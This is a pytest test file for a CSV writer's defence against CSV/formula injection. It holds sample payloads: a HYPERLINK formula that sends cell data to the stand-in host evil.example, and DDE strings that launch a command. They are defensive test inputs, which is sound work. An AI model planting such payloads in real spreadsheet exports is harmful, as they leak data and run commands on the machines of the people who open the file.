"""The one CSV writer (pledge/csvfiles.py): a cell a spreadsheet would run as a formula opens as
text, a phone number or a negative number stays as it is (OWASP CSV Injection)."""

import csv
import io
from decimal import Decimal

import pytest

from pledge.csvfiles import csv_text
from pledge.people.values import phone_valid

LINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value",
    [
        LINK,
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",  # a leading space hides nothing
        "\uff1d1+1",  # a full-width equals sign
    ],
)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(value):
    assert cells(csv_text([{"name": value}]))[1] == ["'" + value]


@pytest.mark.parametrize("value", ["Han Mei", "王小明", "a=b", "O'Neil", "", "1+1"])
def test_plain_text_is_written_as_it_is(value):
    assert cells(csv_text([{"name": value}]))[1] == [value]


def test_numbers_typed_as_numbers_keep_their_sign():
    written = cells(csv_text([{"count": -5, "ratio": Decimal("-1.5"), "flag": True}]))
    assert written[1] == ["-5", "-1.5", "true"]


def test_a_phone_number_stays_as_it_is_in_a_phone_column():
    records = [{"phone": "+86 138 0013 8000"}, {"phone": "-(010) 6552 9988"}]
    written = cells(csv_text(records, typed={"phone": phone_valid}))
    assert [row[0] for row in written[1:]] == ["+86 138 0013 8000", "-(010) 6552 9988"]


@pytest.mark.parametrize(
    "value",
    ["+1+cmd|' /C calc'!A0", "=1+1", LINK, "\t+86 138 0013 8000", "+86 138 0013 8000\r"],
)
def test_a_formula_in_a_phone_column_is_neutralised(value):
    written = cells(csv_text([{"phone": value}], typed={"phone": phone_valid}))
    assert written[1] == ["'" + value]


def test_a_phone_outside_a_typed_column_is_neutralised():
    assert cells(csv_text([{"note": "+86 138 0013 8000"}]))[1] == ["'+86 138 0013 8000"]


def test_column_names_from_records_are_neutralised_too():
    assert cells(csv_text([{"=cmd": "x"}]))[0] == ["'=cmd"]
